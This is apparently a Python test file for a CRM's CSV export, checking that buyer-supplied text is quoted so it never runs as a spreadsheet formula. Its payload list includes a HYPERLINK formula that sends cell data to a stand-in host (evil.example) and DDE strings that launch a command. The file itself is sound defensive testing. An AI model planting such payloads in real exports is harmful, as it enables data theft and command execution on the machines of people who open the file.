"""CSV files a seller opens in Excel: buyers' text never runs as a formula (OWASP's CSV injection advice)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from crm.spreadsheet import MAX_CELL_CHARS, csv_bytes, safe_cell

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1:A9)",
]


def read_back(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_would_start_a_formula_gets_a_quote_and_keeps_its_text(payload: str) -> None:
    rows = read_back(csv_bytes(["name"], [[payload]]))
    assert rows == [["name"], ["'" + payload]]


def test_ordinary_text_and_numbers_are_written_unchanged() -> None:
    data = csv_bytes(
        ["customer_id", "name", "amount", "points", "note"],
        [[7, "Tan Wei Ling", -12.5, 120, "陈美美 (VIP)"], [8, "O'Brien", Decimal("-3.70"), 0, ""]],
    )
    text = data.decode("utf-8")
    # Numbers stay numbers for the spreadsheet: written bare, negative ones without a quote.
    assert text.splitlines()[1] == '7,"Tan Wei Ling",-12.5,120,"陈美美 (VIP)"'
    assert text.splitlines()[2] == '8,"O\'Brien",-3.70,0,""'
    assert read_back(data)[1:] == [
        ["7", "Tan Wei Ling", "-12.5", "120", "陈美美 (VIP)"],
        ["8", "O'Brien", "-3.70", "0", ""],
    ]


def test_a_phone_kept_as_text_is_text() -> None:
    assert safe_cell("+6591234567") == "'+6591234567"
    assert safe_cell(-5) == -5 and safe_cell(Decimal("-1.5")) == Decimal("-1.5")


def test_separators_quotes_and_line_breaks_stay_inside_their_cell() -> None:
    name = "Ana\", =cmd|' /C calc'!A0, \"x\r\n=1+1"
    rows = read_back(csv_bytes(["name", "n"], [[name, 1]]))
    assert rows == [["name", "n"], [name, "1"]]


def test_nul_is_removed_before_the_first_character_is_checked() -> None:
    assert safe_cell("\x00=1+1") == "'=1+1"
    assert safe_cell("Ana\x00 Silva") == "Ana Silva"
    assert read_back(csv_bytes(["name"], [["\x00\x00@SUM(1)"]]))[1] == ["'@SUM(1)"]


def test_a_cell_is_cut_to_excels_limit() -> None:
    rows = read_back(csv_bytes(["name", "n"], [["A" * 100_000, 1], ["=" + "B" * 40_000, 2]]))
    assert rows[1] == ["A" * MAX_CELL_CHARS, "1"]
    assert len(rows[2][0]) == MAX_CELL_CHARS == 32_767
    assert rows[2][0].startswith("'=BBB") and rows[2][1] == "2"


def test_none_is_an_empty_cell() -> None:
    assert read_back(csv_bytes(["a", "b"], [[None, "x"]]))[1] == ["", "x"]
